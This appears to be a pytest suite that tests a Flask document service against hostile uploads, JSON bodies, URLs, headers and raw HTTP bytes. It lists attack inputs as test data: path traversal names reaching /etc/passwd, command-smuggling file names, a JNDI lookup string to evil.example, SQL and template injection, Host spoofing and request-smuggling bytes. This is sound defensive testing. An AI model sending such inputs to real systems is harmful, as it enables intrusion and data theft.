"""What an attacker sends: refused or contained, in words, and the service goes on.

A tree of files beside the home must be as before after each attack, and a listening socket that
documents point to must never be called.
"""

from __future__ import annotations

import hashlib
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from clients import API, client_of, small_home
from conftest import CheapEncoder
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from index.home import Home
from web.serving import Server

SECRET = "the password is correct horse battery staple"
PROSE = "The ferry to Skarrow leaves at nine o'clock every morning of the week, in any weather."


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a secret in it, beside which the home lies."""
    path = tmp_path_factory.mktemp("place")
    (path / "secret.txt").write_text(SECRET)
    return path


@pytest.fixture(scope="module")
def home(place: Path) -> Iterator[Home]:
    with small_home(place, CheapEncoder()) as opened:
        yield opened


@pytest.fixture(scope="module")
def client(home: Home) -> FlaskClient:
    return client_of(home)


@pytest.fixture
def unharmed(client: FlaskClient, home: Home, place: Path) -> Iterator[FlaskClient]:
    """A client. Afterwards nothing outside the home has changed, and the service still answers."""
    before = tree(place)
    yield client
    assert tree(place) == before
    uploads = home.path / "uploads"
    kept = [path.name for path in uploads.iterdir()] if uploads.is_dir() else []
    assert all(len(name) == 64 and int(name, 16) >= 0 for name in kept)
    reply = client.get(f"{API}/search?q=otters&mode=keyword")
    assert reply.status_code == 200
    assert reply.get_json()["total"] >= 1


def tree(place: Path) -> dict[str, str]:
    """Every file outside the home, by its hash."""
    home = place / "home"
    files = [path for path in place.rglob("*") if path.is_file() and home not in path.parents]
    return {str(path): hashlib.sha256(path.read_bytes()).hexdigest() for path in files}


def told(reply: TestResponse, *statuses: int) -> Any:
    """What a reply says: one of these statuses, and where it failed a sentence."""
    assert reply.status_code in statuses, reply.text
    assert "Traceback" not in reply.text
    said = json.loads(reply.data)
    if reply.status_code >= 400:
        assert reply.mimetype == "application/problem+json"
        assert len(said["detail"]) > 10
        assert said["detail"].strip()[-1] in ".?!)"
    return said


# Names of files

NAMES: list[str | bytes] = [
    # Paths
    "../evil.txt", "../../../../etc/passwd", "/etc/passwd", "//etc//passwd", "a/../../evil.txt",
    "..\\..\\evil.txt", "C:\\Windows\\evil.txt", "C:evil.txt", "\\\\host\\share\\evil.txt",
    "\\\\?\\C:\\evil.txt", "file:///etc/passwd", "evil.txt:stream", "evil.txt::$DATA",
    ".", "..", "...", "/", "\\", "a/", "./", "a//b.txt", "//",
    # Encoded paths, and what looks like them
    "..%2f..%2fevil.txt", "..%252f..%252fevil.txt", "%2e%2e/evil.txt", "..%c0%af..%c0%afevil.txt",
    "．．／evil.txt", "..∕evil.txt", "..⁄evil.txt", "‥/evil.txt", b"..\xc0\xaf..\xc0\xafevil.txt",
    # Names that mean something somewhere
    "CON", "NUL.txt", "aux.txt", "COM1.log", "lpt1", ".htaccess", ".ssh", "~", "~root", "-rf",
    "--help", "catalog.db", "khazri.toml", "keys.json", "uploads", "write.lock",
    "$(touch evil).txt", "`touch evil`.txt", ";touch evil;.txt", "|touch evil", "%s%n%d.txt",
    "${jndi:ldap://evil.example/a}", "{{7*7}}.txt", "'; DROP TABLE documents; --.txt", "=1+1.csv",
    # Characters
    "a\0b.txt", "evil.txt\0.pdf", "evil\r\nX-Evil: 1.txt", "evil\n.txt", "evil\x1b[31m.txt", " ",
    "\t", " evil .txt ", 'evil".txt', "evil\\\".txt", "\u202etxt.exe", "\u2066evil\u2069.txt",
    "\ufeff.txt", "é.txt", "e\u0301.txt", "😀.txt", "a" * 255, "a" * 5_000, "é" * 3_000,
    b"\xed\xa0\x80.txt", b"\xff\xfe.txt",
]  # fmt: skip


def form(*uploads: tuple[str | bytes, bytes], field: str = "file") -> bytes:
    """The body of a form as an attacker writes it: nothing in it is escaped."""
    body = b""
    for name, data in uploads:
        name = name.encode("utf-8", "surrogatepass") if isinstance(name, str) else name
        body += (
            b'--cut\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\n\r\n%s\r\n'
            % (
                field.encode(),
                name,
                data,
            )
        )
    return body + b"--cut--\r\n"


def send(
    client: FlaskClient, body: bytes, type: str = "multipart/form-data; boundary=cut"
) -> TestResponse:
    return client.post(f"{API}/documents", data=body, content_type=type)


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_name_is_a_name_and_no_path(
    unharmed: FlaskClient, name: str | bytes, request: pytest.FixtureRequest
) -> None:
    text = f"{PROSE} This is number {request.node.callspec.id}.".encode()
    said = told(send(unharmed, form((name, text))), 201, 400)
    for document in said.get("documents", ()):
        assert document["uri"] == document["uri"].strip() != ""
        assert document["uri"].isprintable()
        assert not set(document["uri"]) & {"/", "\\"}
        with unharmed.get(f"/documents/{document['id']}/original") as saved:
            assert saved.data == text
            assert "X-Evil" not in saved.headers
            assert saved.headers["Content-Disposition"].startswith("attachment; filename")
            assert saved.mimetype == "application/octet-stream"


# Forms

CUT = "multipart/form-data; boundary=cut"
FORMS: list[tuple[str, bytes]] = [
    ("multipart/form-data", form(("a.txt", b"x"))),
    ("multipart/form-data; boundary=", form(("a.txt", b"x"))),
    ("multipart/form-data; boundary=other", form(("a.txt", b"x"))),
    ("multipart/form-data; boundary=" + "x" * 5_000, form(("a.txt", b"x"))),
    (CUT, b""),
    (CUT, b"--cut--\r\n"),
    (CUT, form(("a.txt", b"x"))[:40]),
    (CUT, form(("a.txt", b"x" * 1000))[:-200]),
    (CUT, b"--cut\r\n\r\nno header\r\n--cut--\r\n"),
    (CUT, b"--cut\r\nX: " + b"y" * (1 << 20) + b"\r\n\r\nx\r\n--cut--"),
    (CUT, b"--cut\r\n" + b"X: y\r\n" * 50_000 + b"\r\nx\r\n--cut--"),
    (CUT, b"--cut\r\n" * 100_000),
    (CUT, form(*[("", b"")] * 3_000)),
    (CUT, form(*[(f"{n}.txt", b"") for n in range(3_000)])),
    (CUT, form(("a.txt", b"x"), field="files")),
    (CUT, form(("a.txt", b"x"), field="file[]")),
    (CUT, b'--cut\r\nContent-Disposition: form-data; name="file"\r\n\r\nx\r\n--cut--'),
    ("multipart/mixed; boundary=cut", form(("a.txt", b"x"))),
    ("application/x-www-form-urlencoded", b"file=" + b"x" * (1 << 20)),
    ("application/json; charset=utf-7", b'{"text": "+AGE-", "id": 1}'),
    ("text/plain", b"x"),
    ("", b"x"),
    ("\u00e9/\u00e9".encode().decode("latin-1"), b"x"),
]  # fmt: skip


# Werkzeug leaves the temporary file of a part that is cut off to the collector of garbage.
@pytest.mark.filterwarnings("ignore:.*SpooledTemporaryFile")
@pytest.mark.parametrize(("type", "body"), FORMS, ids=range(len(FORMS)))
def test_a_broken_form_is_refused(unharmed: FlaskClient, type: str, body: bytes) -> None:
    before = count(unharmed)
    told(send(unharmed, body, type), 400, 413, 415)
    assert count(unharmed) == before


def test_two_files_of_one_name_are_stored_once(unharmed: FlaskClient) -> None:
    both = form(("two.txt", PROSE.encode()), ("a/two.txt", f"{PROSE} Later.".encode()))
    (document,) = told(send(unharmed, both), 201)["documents"]
    read = told(unharmed.get(f"{API}/documents/{document['id']}"), 200)
    assert read["text"].endswith("Later.")


def count(client: FlaskClient) -> int:
    return int(client.get(f"{API}/documents").get_json()["total"])


# JSON

BODIES: list[tuple[bytes, int]] = [
    (b'{"text": NaN}', 400),
    (b'{"text": Infinity}', 400),
    (b'{"text": 1e999}', 400),
    (b'{"text": ' + b"9" * 5_000 + b"}", 400),
    (b'{"text": "a", "published": ' + b"9" * 400 + b"}", 400),
    (b'{"text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", 400),
    (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, 400),
    (b'{"text": {"$ne": null}}', 400),
    (b'{"text": ["a"]}', 400),
    (b'{"text": true}', 400),
    (b'{"text": null}', 400),
    (b'{"text": "a", "__class__": "b"}', 400),
    (b'{"__proto__": {"text": "a"}}', 400),
    (b'{"text": "a", "id": {}}', 400),
    (b'{"text": "a", "tags": "b"}', 400),
    (b'{"text": "a", "tags": [1]}', 400),
    (b'{"text": "a", "id": "\\ud800"}', 400),
    (b'{"text": "a"}{"text": "b"}', 400),
    (b"\xef\xbb\xbf", 400),
    (b"\x1f\x8b\x08\0\0\0\0\0", 400),
    (b"[" + b'{"text": "a"},' * 1_000 + b'{"text": "a"}]', 413),
    (b"[1, 2, 3]", 400),
]


@pytest.mark.parametrize(("body", "status"), BODIES, ids=range(len(BODIES)))
def test_a_hostile_body_is_refused(unharmed: FlaskClient, body: bytes, status: int) -> None:
    before = count(unharmed)
    told(send(unharmed, body, "application/json"), status)
    assert count(unharmed) == before


@pytest.mark.parametrize(
    "id", ["../../etc/passwd", "/etc/passwd", "a//b//c", "//", "CON", "-1", "\0\0x", "x" * 10_000]
)
def test_an_id_is_a_word_and_no_path(unharmed: FlaskClient, id: str) -> None:
    body = json.dumps({"text": f"{PROSE} {id[:40]}", "id": id}).encode()
    said = told(send(unharmed, body, "application/json"), 201, 400)
    for document in said.get("documents", ()):
        path = f"/documents/{document['id']}"
        assert unharmed.get(f"{path}/original").status_code == 404
        assert unharmed.get(path).status_code == 200
        told(unharmed.delete(f"{API}{path}"), 200)


# Addresses

ADDRESSES = [
    "/documents/-1", "/documents/٣", "/documents/9223372036854775808", "/documents/1e3",
    "/documents/0x1", "/documents/1%00", "/documents/1;a=b", "/documents/%2e%2e/secret.txt",
    "/documents/..%2f..%2fsecret.txt", "/documents/1/original/..;/", "/documents/1/original%2f..",
    "/documents/999/original?path=../secret.txt", "/documents/unread/..%2f..%2fsecret.txt",
    "/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py", "/static/..%5capp.py",
    "/static/%252e%252e%252fapp.py", "/static//etc/passwd", "/static/%00",
    "/static/khazri.css%00.js",
    f"{API}/documents/-1", f"{API}/documents/１", f"{API}/documents/{'9' * 5_000}",
    f"{API}/jobs/-1", f"{API}/jobs/%2e%2e", f"{API}/../../etc/passwd", f"{API}//documents//1",
    "//etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/\\etc\\passwd", "/" + "a/" * 5_000, "/%ff%fe",
    "/?q=" + "%00" * 50, "/documents?page=-1", "/documents?page=" + "9" * 5_000,
    "/documents?order=title;DROP", "/documents?q=" + "%25" * 2_000, "/documents/1?start=-9&end=1e9",
]  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES, ids=range(len(ADDRESSES)))
def test_no_address_leads_out(unharmed: FlaskClient, address: str) -> None:
    reply = unharmed.get(address)
    assert reply.status_code in (200, 304, 308, 400, 403, 404, 414), reply.text
    assert SECRET not in reply.text
    assert "create_app" not in reply.text
    assert "root:" not in reply.text
    assert "Traceback" not in reply.text


@pytest.mark.parametrize("of", ["uploads", "api", "", "../..", "\0"])
@pytest.mark.parametrize("uri", ["../secret.txt", "/etc/passwd", "", "\0", "x" * 10_000])
def test_only_what_was_removed_comes_back(unharmed: FlaskClient, of: str, uri: str) -> None:
    before = count(unharmed)
    reply = unharmed.post("/documents/restore", data={"of": of, "uri": uri})
    assert reply.status_code == 404
    assert count(unharmed) == before


# Headers

HEADERS: list[tuple[dict[str, str], tuple[int, ...]]] = [
    ({"Host": "evil.example"}, (403,)),
    ({"Host": "127.0.0.1.evil.example"}, (403,)),
    ({"Host": "localhost@evil.example"}, (400, 403)),
    ({"Host": "localhost/../evil.example"}, (400, 403)),
    ({"Host": "[::1"}, (400, 403)),
    ({"Host": ""}, (400, 403)),
    ({"Host": "a" * 5_000}, (400, 403)),
    ({"X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https"}, (200,)),
    ({"X-Forwarded-For": "127.0.0.1, ::1, evil", "Forwarded": "host=evil.example"}, (200,)),
    ({"X-Original-URL": "/etc/passwd", "X-Rewrite-URL": "/etc/passwd"}, (200,)),
    ({"X-HTTP-Method-Override": "DELETE"}, (200,)),
    ({"Cookie": "a=" + "b" * 60_000}, (200, 400)),
    ({"Cookie": "session=eyJhIjoxfQ.x.y; " * 500}, (200, 400)),
    ({"Authorization": "Basic " + "Ã" * 5_000}, (200, 401)),
    ({"Authorization": "Bearer " + "x" * 50_000}, (200, 401)),
    ({"If-None-Match": '"a",' * 10_000}, (200,)),
    ({"Range": "bytes=" + "0-," * 10_000}, (200, 400, 416)),
    ({"Accept": "a/b;q=0.1," * 10_000}, (200,)),
    ({"Accept-Language": "en-" * 10_000}, (200,)),
    ({"X-Request-ID": "<script>\u00e9" * 1_000}, (200,)),
]


@pytest.mark.parametrize(("headers", "statuses"), HEADERS, ids=range(len(HEADERS)))
def test_no_header_is_believed(
    unharmed: FlaskClient, headers: dict[str, str], statuses: tuple[int, ...]
) -> None:
    for path in ("/", "/documents/1", f"{API}/documents"):
        reply = unharmed.get(path, headers=headers)
        assert reply.status_code in statuses, reply.text
        if reply.status_code == 200:
            assert "evil.example" not in reply.text + str(reply.headers)
            assert "<script>\u00e9" not in str(reply.headers)


# Bytes on the wire

POST = b"POST /api/v1/documents HTTP/1.1\r\nHost: localhost\r\n"
WIRE: list[bytes] = [
    b"\0" * 100 + b"\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    b"GET\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET http://evil.example/ HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nno colon here\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\n folded: x\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: " + b"y" * (1 << 20) + b"\r\n\r\n",
    b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    POST + b"Content-Length: -1\r\n\r\n",
    POST + b"Content-Length: 1e3\r\n\r\n",
    POST + b"Content-Length: 99999999999999999999\r\n\r\n",
    POST + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
    POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\nzz\r\nx\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx\r\n",
    POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    POST + b"Content-Type: application/json\r\n"
    b"Content-Encoding: gzip\r\nContent-Length: 3\r\n\r\n\x1f\x8b\x08",
    POST + b"Content-Type: application/json\r\n"
    b'Content-Length: 5\r\n\r\n{"text": "more than five"}',
    POST + b"Content-Type: application/json\r\n"
    b'Content-Length: 500\r\n\r\n{"text": "less than five hundred"}',
    b"DELETE /api/v1/documents/1 HTTP/1.1\r\nHost: localhost\r\nOrigin: null\r\n\r\n",
    b"BREW /documents/1 HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"TRACE / HTTP/1.1\r\nHost: localhost\r\nCookie: a=b\r\n\r\n",
    b"CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example:80\r\n\r\n",
]  # fmt: skip


@pytest.fixture(scope="module")
def port(client: FlaskClient) -> Iterator[int]:
    """The port of the server as it is deployed, over the home of ``client``."""
    bound = socket.create_server(("127.0.0.1", 0))
    server = Server(client.application, bound, 2)
    thread = threading.Thread(target=server.run)
    thread.start()
    yield bound.getsockname()[1]
    server.end()
    thread.join()
    server.finish(5)


@pytest.mark.parametrize("sent", WIRE, ids=range(len(WIRE)))
def test_no_bytes_break_the_server(unharmed: FlaskClient, port: int, sent: bytes) -> None:
    before = count(unharmed)
    said = exchanged(port, sent)
    status = said.split(b"\r\n")[0].partition(b" ")[2][:3]
    assert not said or 400 <= int(status) < 600 or sent.startswith(b"GET / "), said[:200]
    assert b"Traceback" not in said
    assert b"evil.example" not in said
    assert count(unharmed) == before
    assert exchanged(port, b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n").startswith(
        b"HTTP/1.1 200"
    )


def exchanged(port: int, sent: bytes) -> bytes:
    """What the server replies to bytes after which nothing comes; nothing where it hangs up."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as wire:
        try:
            wire.sendall(sent)
            wire.shutdown(socket.SHUT_WR)
            return b"".join(iter(lambda: wire.recv(65536), b""))
        except OSError:
            return b""
